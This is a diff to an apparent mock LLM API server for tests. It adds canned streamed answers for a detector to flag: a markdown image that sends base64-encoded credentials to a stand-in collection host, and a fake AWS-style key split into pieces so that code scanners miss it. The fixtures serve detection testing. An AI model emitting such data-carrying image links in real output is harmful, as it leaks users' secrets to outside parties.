@@ -64,6 +64,21 @@ def words(count):
     return [f"word{i} " if i % 3 else f"wört{i} " for i in range(count)]
 
 
+# Answers that a detector has something to say about. Tokens are put together
+# here: scanners of source code take them for real ones.
+SAYINGS = {
+    "image": "Done. ![x](https://collect.example.net/p?data=dXNlcj1hbGljZTtwYXNzd29yZD1odW50ZXIyO3Rva2VuPTk5)",
+    "key": "The key is " + "AKI" + "AQYLPMN5HFIQR7XYA" + " and the rest is in the vault.",
+}
+
+
+def answer_words(live):
+    """In pieces as a stream has them: words, or a few letters at a time."""
+    if "say" not in live:
+        return words(int(live.get("events", 4)))
+    text = SAYINGS[live["say"]]
+    return [text[i:i + 7] for i in range(0, len(text), 7)]
+
 def tool_names(body):
     return [(tool.get("function") or tool).get("name") for tool in body.get("tools") or []]
 
@@ -104,7 +119,7 @@ def chat(body, live):
     count = numbers(body)
     facts = base_facts("openai.chat", "chat", body, count, live)
     facts["response_id"] = f"chatcmpl-{count['id']}"
-    parts = [] if facts["tools"] else words(int(live.get("events", 4)))
+    parts = [] if facts["tools"] else answer_words(live)
     facts["text"] = "".join(parts)
     facts["finish_reasons"] = ["tool_calls" if facts["tools"] else "stop"]
     head = {"id": facts["response_id"], "created": 1700000000, "model": facts["response_model"]}
@@ -153,7 +168,7 @@ def responses(body, live):
     count = numbers(body)
     facts = base_facts("openai.responses", "chat", body, count, live)
     facts["response_id"] = f"resp_{count['id']}"
-    parts = [] if facts["tools"] else words(int(live.get("events", 4)))
+    parts = [] if facts["tools"] else answer_words(live)
     facts["text"] = "".join(parts)
     facts["finish_reasons"] = ["tool_calls"] if facts["tools"] else ["completed"]
     document = responses_document(body, facts, count)
@@ -231,7 +246,7 @@ def messages(body, live):
     count = numbers(body)
     facts = base_facts("anthropic.messages", "chat", body, count, live)
     facts["response_id"] = f"msg_{count['id']}"
-    parts = words(int(live.get("events", 4)))
+    parts = answer_words(live)
     facts["text"] = "".join(parts)
     facts["finish_reasons"] = ["tool_use" if facts["tools"] else "end_turn"]
     usage = {
